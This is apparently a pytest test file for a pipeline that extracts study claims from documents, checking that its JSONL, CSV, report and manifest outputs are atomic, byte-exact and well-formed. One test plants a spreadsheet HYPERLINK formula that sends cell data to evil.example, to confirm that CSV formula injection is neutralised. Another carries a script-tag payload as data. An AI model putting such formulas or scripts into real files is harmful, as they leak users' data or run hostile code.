"""Every SPEC output file is written, well-formed, atomic and byte-exact."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from pipeline.model import Claim, Document, Dose, Evidence, Run, Study
from pipeline.outputs import write_run
from pipeline.outputs.atomic import atomic_open, write_text
from pipeline.outputs.csv import CLAIM_COLUMNS, claim_row
from pipeline.outputs.jsonl import write_claims
from test_outputs_sample import GUIDE_TEXT, UNICODE_TEXT, sample_run

SPEC_FILES = ["documents.jsonl", "claims.jsonl", "claims.csv", "flags.csv", "report.html", "manifest.json"]
DOCUMENT_FIELDS = {"doc_id", "source", "sha256", "kind", "title", "status", "error", "chars", "boilerplate_chars", "claims"}
CLAIM_FIELDS = {
    "claim_id", "doc_id", "source", "context", "study", "population", "n", "dose", "comparator",
    "outcome_measures", "finding", "direction", "evidence", "verification", "flags",
}  # fmt: skip
CSV_CLAIM_COLUMNS = {
    "study_label", "study_first_author", "study_year", "study_venue", "study_markers", "population", "n",
    "dose", "dose_values", "dose_units", "comparator", "outcome_measures", "finding", "direction",
    "evidence_text", "evidence_start", "evidence_end", "evidence_page", "verification_status",
    "reference_id", "method", "score", "flag_codes",
}  # fmt: skip
FLAG_COLUMNS = {"claim_id", "doc_id", "code", "severity", "message", "field", "expected", "found", "reference_id"}
MANIFEST_KEYS = {"started_at", "finished_at", "command", "versions", "inputs", "references", "counts", "changes", "timings"}


def _jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def _csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


@pytest.fixture()
def written(tmp_path: Path) -> tuple[Path, Run]:
    run = sample_run()
    write_run(tmp_path, run)
    return tmp_path, run


def test_every_spec_file_is_written(written: tuple[Path, Run]) -> None:
    out, run = written
    for name in SPEC_FILES:
        assert (out / name).is_file(), name
    assert not list(out.glob(".*.tmp")), "temporary files left behind"


def test_documents_jsonl_has_the_spec_fields(written: tuple[Path, Run]) -> None:
    out, run = written
    rows = _jsonl(out / "documents.jsonl")
    assert [r["doc_id"] for r in rows] == [d.doc_id for d in run.documents]
    for row in rows:
        assert DOCUMENT_FIELDS <= row.keys()
    guide, hostile, failed, _ = rows
    assert guide["claims"] == 4 and guide["boilerplate_chars"] == len("Shop now! Free shipping on orders over $50.")
    assert guide["chars"] == len(run.documents[0].text)
    assert failed["status"] == "failed" and failed["error"].startswith("PDF is encrypted")


def test_claims_jsonl_is_claim_to_dict(written: tuple[Path, Run]) -> None:
    out, run = written
    rows = _jsonl(out / "claims.jsonl")
    assert rows == [c.to_dict() for c in run.claims]
    for row in rows:
        assert CLAIM_FIELDS <= row.keys()
        assert {"label", "first_author", "year", "venue", "markers"} <= row["study"].keys()
        assert {"text", "start", "end", "page"} <= row["evidence"].keys()
        assert {"status", "reference_id", "method", "score"} <= row["verification"].keys()
    mismatch = rows[0]["flags"][0]
    assert mismatch == {
        "code": "VALUE_MISMATCH", "severity": "high", "field": "n", "expected": 84, "found": 48,
        "reference_id": "Marsh2015", "message": "N given as 48; trusted record Marsh2015 says 84 randomized.",
    }  # fmt: skip


def test_claims_csv_flattens_every_claim(written: tuple[Path, Run]) -> None:
    out, run = written
    header, rows = _csv(out / "claims.csv")
    assert CSV_CLAIM_COLUMNS <= set(header)
    assert len(rows) == len(run.claims)
    marsh = rows[0]
    assert marsh["study_label"] == "Marsh et al. (2015)" and marsh["study_markers"] == "1"
    assert marsh["n"] == "48" and marsh["dose"] == "50 mg before exposure"
    assert (marsh["dose_values"], marsh["dose_units"]) == ("50", "mg")
    assert marsh["evidence_text"] == run.claims[0].evidence.text
    assert marsh["flag_codes"] == "VALUE_MISMATCH" and marsh["score"] == "0.97"
    assert rows[3]["flag_codes"] == "ANECDOTAL_CONTEXT;UNCITED_CLAIM"


def test_claims_csv_joins_lists_and_ranges() -> None:
    claim = Claim(
        claim_id="x", doc_id="d", source="s", context="table",
        evidence=Evidence(text="t", start=0, end=1),
        study=Study(label="[7-9]", markers=["7", "8", "9"]),
        dose=[Dose(value=10, unit="mg/kg", text="10"), Dose(value=0.5, unit="g/day", value_max=1.0, text="0.5-1 g/d")],
        outcome_measures=["LSAS", "CGI-I"],
    )  # fmt: skip
    row = claim_row(claim)
    assert set(row) == set(CLAIM_COLUMNS)
    assert row["study_markers"] == "7;8;9"
    assert row["dose"] == "10;0.5-1 g/d"
    assert row["dose_values"] == "10;0.5-1" and row["dose_units"] == "mg/kg;g/day"
    assert row["outcome_measures"] == "LSAS;CGI-I"
    assert row["n"] == "" and row["comparator"] == ""


def test_flags_csv_has_one_row_per_flag(written: tuple[Path, Run]) -> None:
    out, run = written
    header, rows = _csv(out / "flags.csv")
    assert FLAG_COLUMNS <= set(header)
    assert len(rows) == sum(len(c.flags) for c in run.claims) == 6
    mismatch = rows[0]
    assert (mismatch["code"], mismatch["severity"], mismatch["field"]) == ("VALUE_MISMATCH", "high", "n")
    assert (mismatch["expected"], mismatch["found"], mismatch["reference_id"]) == ("84", "48", "Marsh2015")
    structured = rows[-1]
    assert json.loads(structured["expected"]) == ["<script>window.__pwned=15</script>"]


def test_manifest_has_the_spec_shape(written: tuple[Path, Run]) -> None:
    out, run = written
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert set(manifest) == MANIFEST_KEYS
    assert manifest["command"] == run.command
    assert {"litclaims", "spacy", "prefect", "python"} <= manifest["versions"].keys()
    assert manifest["inputs"][2] == {
        "source": "/data/broken.pdf", "doc_id": "broken-pdf-1111111111", "sha256": "c" * 64, "status": "failed",
    }  # fmt: skip
    assert manifest["references"] == [
        {"path": "corpus/references/trusted.csv", "sha256": "e" * 64, "format": "csv", "records": 2,
         "skipped": [{"line": 40, "error": "no id and no bibliographic identity"}]},
    ]  # fmt: skip
    assert manifest["counts"] == {"documents": 4, "ok": 3, "failed": 1, "skipped": 0, "claims": 6, "flags": 6}
    assert manifest["changes"] == run.changes
    write_s = manifest["timings"]["write_s"]
    assert write_s >= 0 and manifest["timings"]["total_s"] == pytest.approx(1.5 + write_s, abs=0.002)


def test_text_files_are_byte_exact_and_offsets_hold(written: tuple[Path, Run]) -> None:
    out, run = written
    for document in run.documents:
        path = out / "text" / f"{document.doc_id}.txt"
        if document.status == "failed" and not document.text:
            assert not path.exists()
            continue
        assert path.read_bytes() == document.text.encode("utf-8")
    for claim in _jsonl(out / "claims.jsonl"):
        text = (out / "text" / f"{claim['doc_id']}.txt").read_bytes().decode("utf-8")
        evidence = claim["evidence"]
        assert text[evidence["start"] : evidence["end"]] == evidence["text"]


def test_crlf_lone_cr_and_non_bmp_survive(written: tuple[Path, Run]) -> None:
    out, _ = written
    guide = (out / "text" / "vendor-guide-0123456789.txt").read_bytes()
    assert guide == GUIDE_TEXT.encode("utf-8")
    assert guide.count(b"\r\n") == guide.count(b"\n") == GUIDE_TEXT.count("\n") > 5
    unicode_text = (out / "text" / "utf16-notes-2222222222.txt").read_bytes().decode("utf-8")
    assert unicode_text == UNICODE_TEXT
    assert "\U0001d6fc" in unicode_text and "lone CR\rand" in unicode_text


def test_rerun_removes_texts_of_dropped_documents_and_keeps_unchanged_files(written: tuple[Path, Run]) -> None:
    out, run = written
    kept = out / "text" / "vendor-guide-0123456789.txt"
    inode = kept.stat().st_ino
    run.documents = run.documents[:1]
    write_run(out, run)
    assert sorted(p.name for p in (out / "text").iterdir()) == ["vendor-guide-0123456789.txt"]
    assert kept.stat().st_ino == inode, "an unchanged text file was rewritten"
    assert len(_jsonl(out / "claims.jsonl")) == 4


def test_empty_run_writes_valid_empty_files(tmp_path: Path) -> None:
    write_run(tmp_path, Run(command=["litclaims", "run"], started_at="2026-11-26T08:00:00+00:00"))
    assert (tmp_path / "claims.jsonl").read_bytes() == b""
    assert (tmp_path / "documents.jsonl").read_bytes() == b""
    for name in ("claims.csv", "flags.csv"):
        header, rows = _csv(tmp_path / name)
        assert header and rows == []
    manifest = json.loads((tmp_path / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["counts"] == {"documents": 0, "ok": 0, "failed": 0, "skipped": 0, "claims": 0, "flags": 0}
    assert manifest["finished_at"]
    assert "<html" in (tmp_path / "report.html").read_text(encoding="utf-8")


def test_failed_write_leaves_the_previous_file_intact(tmp_path: Path) -> None:
    path = tmp_path / "claims.jsonl"
    write_text(path, "previous\n")

    def exploding_claims():
        yield sample_run().claims[0]
        raise RuntimeError("disk on fire")

    with pytest.raises(RuntimeError):
        write_claims(path, exploding_claims())
    assert path.read_text(encoding="utf-8") == "previous\n"
    assert [p.name for p in tmp_path.iterdir()] == ["claims.jsonl"]


def test_atomic_open_keeps_crlf_and_replaces_in_one_step(tmp_path: Path) -> None:
    path = tmp_path / "sub" / "f.txt"
    with atomic_open(path) as handle:
        handle.write("a\r\nb\n")
        assert not path.exists(), "the target appeared before the write finished"
    assert path.read_bytes() == b"a\r\nb\n"


def test_unchanged_documents_keep_their_text_even_when_empty(tmp_path: Path) -> None:
    run = sample_run()
    empty = Document(doc_id="empty-3333333333", source="/data/empty.txt", kind="text", sha256="0" * 64, status="skipped")
    run.documents.append(empty)
    write_run(tmp_path, run)
    assert (tmp_path / "text" / "empty-3333333333.txt").read_bytes() == b""


def test_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
    run = sample_run()
    claim = run.claims[0]
    claim.finding = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    claim.population = "@SUM(1+1)"
    claim.flags[0].expected = -2.5
    write_run(tmp_path, run)
    _, rows = _csv(tmp_path / "claims.csv")
    assert rows[0]["finding"] == "'" + claim.finding
    assert rows[0]["population"] == "'@SUM(1+1)"
    _, flags = _csv(tmp_path / "flags.csv")
    assert flags[0]["expected"] == "-2.5"
    assert _jsonl(tmp_path / "claims.jsonl")[0]["finding"] == claim.finding


def test_temporaries_of_a_killed_run_are_cleaned_up(tmp_path: Path) -> None:
    (tmp_path / "text").mkdir()
    leftovers = [tmp_path / ".claims.jsonl.0123456789ab.tmp", tmp_path / "text" / ".x.txt.abcdef012345.tmp"]
    for leftover in leftovers:
        leftover.write_text("half", encoding="utf-8")
    (tmp_path / ".keep-me.tmp").write_text("not ours", encoding="utf-8")
    write_run(tmp_path, sample_run())
    assert not any(p.exists() for p in leftovers)
    assert (tmp_path / ".keep-me.tmp").exists()


def test_a_dose_list_written_once_is_shown_once() -> None:
    text = "25, 50 and 100 mg"
    claim = Claim(
        claim_id="x", doc_id="d", source="s", context="prose", evidence=Evidence(text=text, start=0, end=len(text)),
        dose=[Dose(value=v, unit="mg", text=text) for v in (25, 50, 100)],
    )  # fmt: skip
    row = claim_row(claim)
    assert row["dose"] == "25, 50 and 100 mg"
    assert (row["dose_values"], row["dose_units"]) == ("25;50;100", "mg;mg;mg")


def test_a_lone_surrogate_does_not_stop_the_run(tmp_path: Path) -> None:
    run = sample_run()
    document = run.documents[3]
    document.text = "broken \ud800 char, then Smith (2020) found 20 mg worked.\n"
    claim = run.results[document.doc_id].claims[0]
    start = document.text.index("Smith")
    claim.evidence = Evidence(text=document.text[start:-1], start=start, end=len(document.text) - 1)
    claim.finding = "odd \udfff finding"
    write_run(tmp_path, run)
    text = (tmp_path / "text" / f"{document.doc_id}.txt").read_bytes().decode("utf-8")
    assert text == document.text.replace("\ud800", "?")
    row = _jsonl(tmp_path / "claims.jsonl")[-1]
    assert text[row["evidence"]["start"] : row["evidence"]["end"]] == row["evidence"]["text"]
    assert row["finding"] == "odd ? finding"
